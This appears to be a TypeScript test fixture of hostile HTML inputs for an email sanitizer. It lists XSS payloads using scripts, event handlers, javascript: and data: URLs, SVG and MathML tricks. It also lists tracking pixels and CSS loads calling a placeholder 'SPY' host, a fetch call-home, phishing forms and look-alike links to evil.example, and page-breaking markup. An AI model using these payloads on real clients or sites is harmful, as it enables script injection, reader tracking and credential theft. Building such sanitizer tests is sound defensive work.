/** An attempt to run something in an email: it would leave a mark and call home. */
const attack = "top.hacked=1;parent.hacked=1;window.hacked=1;fetch('SPY/script');alert('SPY')";

/**
 * HTML written to run a script, to load something from elsewhere, to lead or send the reader away,
 * or to break the page around it. `SPY` is replaced by an address that must never be called.
 */
export const hostileHtml: Record<string, string> = {
  // Scripts, plain and in pieces.
  'a script': `<p>Hi</p><script>${attack}</script>`,
  'a script from elsewhere': '<script src="SPY/1.js"></script>Hi',
  'a script in mixed case': `<ScRiPt\n>${attack}</sCrIpT\t>Hi`,
  'a script that is not closed': `Hi<script>${attack}`,
  'a script inside a script': `<scr<script>ipt>${attack}</scr</script>ipt>Hi`,
  'a module': `<script type="module">${attack}</script>Hi`,
  'a script with a NUL': `<scr\0ipt>${attack}</script>Hi`,
  'a script after a broken comment': `<!--><script>${attack}</script>-->Hi`,
  'a script in a conditional comment': `<!--[if gte IE 4]><script>${attack}</script><![endif]-->Hi`,
  'a script in CDATA': `<![CDATA[<script>${attack}</script>]]>Hi`,
  'a script in a processing instruction': `<?xml version="1.0"?><?php <script>${attack}</script>?>Hi`,

  // Handlers of events.
  'a picture that fails': `<img src=x onerror="${attack}">Hi`,
  'a picture that fails, without spaces': `<img/src=x/onerror=${attack.replaceAll('"', '')}>Hi`,
  'a handler in capital letters': `<IMG SRC=x OnErRoR="${attack}">Hi`,
  'a handler behind an unclosed quote': `<img alt="x src=y><img src=x onerror="${attack}">Hi`,
  'a body that loads': `<body onload="${attack}">Hi</body>`,
  'details that open': `<details open ontoggle="${attack}">Hi</details>`,
  'a focus that comes by itself': `<input autofocus onfocus="${attack}">Hi`,
  'an animation that starts': `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${attack}">Hi</p>`,
  'a marquee': `<marquee onstart="${attack}">Hi</marquee>`,
  'a pointer that passes': `<div style="position:fixed;inset:0" onpointermove="${attack}">Hi</div>`,

  // Addresses that are programs.
  'a link that is a program': `<a href="javascript:${attack}">Open the estimate</a>`,
  'a link that is a program in pieces': `<a href=" java&#9;scr&NewLine;ipt:${attack}">Open</a>`,
  'a link that is a page of data': `<a href="data:text/html,<script>${attack}</script>">Open</a>`,
  'an image that is a program': `<img src="javascript:${attack}">Hi`,
  'an area of a map': `<map name=m><area shape=default href="javascript:${attack}"></map><img usemap=#m src=x>Hi`,
  'a frame that is a program': `<iframe src="javascript:${attack}"></iframe>Hi`,
  'a frame with a page inside': `<iframe srcdoc="<script>${attack}</script>"></iframe>Hi`,
  'a frame from elsewhere': '<iframe src="SPY/frame"></iframe>Hi',
  'an object': `<object data="data:text/html,<script>${attack}</script>"></object><embed src="SPY/1.swf">Hi`,
  'an applet': '<applet code=X codebase="SPY/"></applet>Hi',
  'a frameset': '<frameset onload="SPY"><frame src="SPY/frame"></frameset>',

  // Other languages inside HTML.
  'an SVG with a script': `<svg><script>${attack}</script></svg>Hi`,
  'an SVG that loads': `<svg onload="${attack}"><circle r=4 /></svg>Hi`,
  'an SVG that animates a link': `<svg><a><animate attributeName=href values="javascript:${attack}"/><text y=20>Hi</text></a></svg>`,
  'an SVG that uses another': `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${attack}</script></svg>#x"/></svg>Hi`,
  'an SVG with HTML in it': `<svg><foreignObject><iframe src="javascript:${attack}"></iframe></foreignObject></svg>Hi`,
  'an SVG as data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attack.replaceAll("'", '')}'><image href='SPY/1.png'/></svg>">Hi`,
  'MathML that turns into HTML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">`,
  'MathML with a link': `<math href="javascript:${attack}"><mtext>Hi</mtext></math>`,
  'noscript that changes its mind': `<noscript><p title="</noscript><img src=x onerror=${attack}>">Hi`,
  'a template': `<template><script>${attack}</script></template>Hi`,
  'a title that ends': `<title><img src="</title><img src=x onerror=${attack}>">Hi`,
  'a text area that ends': `<textarea><img title="</textarea><img src=x onerror=${attack}>"></textarea>Hi`,
  'plain text without an end': `Hi<plaintext><script>${attack}</script>`,
  'a style that ends itself': `<style>p{content:"</style><img src=x onerror=${attack}>"}</style>Hi`,
  'an attribute that ends itself': `<p title='x"><script>${attack}</script>'>Hi</p>`,
  'back quotes': `<img src=\`x\` alt="\`\` onerror=${attack}">Hi`,

  // Loads something, so that its owner learns that the email was opened.
  'a pixel': '<img src="SPY/pixel.gif" width=1 height=1>Hi',
  'a picture for each screen': '<img srcset="SPY/1.png 1x, SPY/2.png 2x" src="cid:none">Hi',
  'a picture element': '<picture><source srcset="SPY/1.png"><img src="SPY/2.png"></picture>Hi',
  'a background of long ago':
    '<table background="SPY/1.png"><tr><td background="SPY/2.png">Hi</td></tr></table>',
  'a background': '<div style="background:url(SPY/1.png)">Hi</div>',
  'a background in escapes': '<div style="background:u\\72\\6c(SPY/1.png)">Hi</div>',
  'a background in entities':
    '<div style="background&#58;u&#114;l(&quot;SPY/1.png&quot;)">Hi</div>',
  'a set of backgrounds':
    "<div style=\"background:image-set('SPY/1.png' 1x);background:-webkit-image-set('SPY/2.png' 1x)\">Hi</div>",
  'a style from elsewhere':
    '<link rel="stylesheet" href="SPY/1.css"><style>@import "SPY/2.css"; @import url(SPY/3.css);</style>Hi',
  'a style in a comment of a style':
    '<style>@imp/**/ort "SPY/1.css"; /* </style> */ p{background:url(SPY/2.png)}</style>Hi',
  'a font':
    '<style>@font-face{font-family:x;src:url(SPY/1.woff2)} p{font-family:x}</style><p>Hi</p>',
  'a list mark, a cursor and a border':
    '<style>li{list-style-image:url(SPY/1.png);cursor:url(SPY/2.cur),auto;border-image:url(SPY/3.png);content:url(SPY/4.png);mask:url(SPY/5.svg#a);filter:url(SPY/6.svg#b)}</style><ul><li>Hi</li></ul>',
  'a style that reads attributes':
    '<style>a[href^="h"]{background:url(SPY/h)} p:first-line{background:url(SPY/p)}</style><p><a href="https://example.com">Hi</a></p>',
  'a rule that loads before it is needed':
    '<link rel=preload as=image href="SPY/1.png"><link rel=prefetch href="SPY/2"><link rel=dns-prefetch href="SPY"><link rel=preconnect href="SPY"><link rel=icon href="SPY/3.ico"><link rel=manifest href="SPY/4">Hi',
  'sound and film':
    '<video src="SPY/1.mp4" poster="SPY/2.png" autoplay></video><audio src="SPY/3.mp3" autoplay></audio><track src="SPY/4.vtt">Hi',
  'a picture of an input': '<input type=image src="SPY/1.png">Hi',
  'the address of a ping': '<a href="https://example.com" ping="SPY/ping">Hi</a>',
  'a citation': '<blockquote cite="SPY/1">Hi</blockquote><q cite="SPY/2">x</q>',
  'a portal': '<portal src="SPY/1"></portal><fencedframe src="SPY/2"></fencedframe>Hi',
  'a rule for speculation':
    '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SPY/1"]}]}</script>Hi',

  // Leads or sends the reader away.
  'a refresh': '<meta http-equiv="refresh" content="0;url=SPY/refresh">Hi',
  'a refresh to a program': `<meta http-equiv="refresh" content="0;url=javascript:${attack}">Hi`,
  'a base': '<base href="SPY/"><base target="_top"><a href="x">Hi</a><img src="1.png">',
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${attack}</script>Hi`,
  'a form that asks for a password':
    '<form action="SPY/form" method=post><input name=user><input type=password name=password><button>Sign in</button></form>',
  'a form elsewhere':
    '<button form=f formaction="SPY/form">Send</button><form id=f></form><isindex action="SPY/isindex">Hi',
  'a form that is a program': `<form action="javascript:${attack}"><button>Sign in</button></form>`,
  'a link to the page around':
    '<a href="/admin/settings" target="_top">Your settings</a><a href="SPY/x" target="_parent">x</a>',
  'a link that names another':
    '<a href="https://evil.example/login">https://www.bank.example/login</a>',
  'a link that names another in look-alike characters':
    '<a href="https://evil.example">https://bаnk.example</a>',

  // Would cover or break the page around it.
  'a cover over everything':
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">Your session ended</div>',
  'a page of enormous height': '<div style="height:99999999999px;min-height:1e12px">Hi</div>',
  'a page that grows with its frame': '<div style="min-height:101vh;padding-bottom:10vh">Hi</div>',
  'a page of enormous width': '<div style="width:99999999px">Hi</div><pre>'.concat(
    'x'.repeat(100_000),
    '</pre>',
  ),
  'elements that are never closed': '<div><table><tr><td>'.repeat(3000).concat('Hi'),
  'formats that are never closed': '<b><i><u><font>'.repeat(10_000).concat('Hi'),
  'a million attributes': `<p ${Array.from({ length: 30_000 }, (_, number) => `a${number}=x`).join(' ')}>Hi</p>`,
  'an attribute without end': `<p style="${'color:red;'.repeat(30_000)}">Hi</p>`,
  'ids that shadow':
    '<form id=document name=cookie><input id=getElementById name=location><img name=body></form>Hi',
  'marks of direction': '\u202egpj.ecioivni\u202c <bdo dir=rtl>Hi</bdo>',
  'marks on marks': `Z${'\u0310\u0322\u0336'.repeat(5000)}algo`,
};
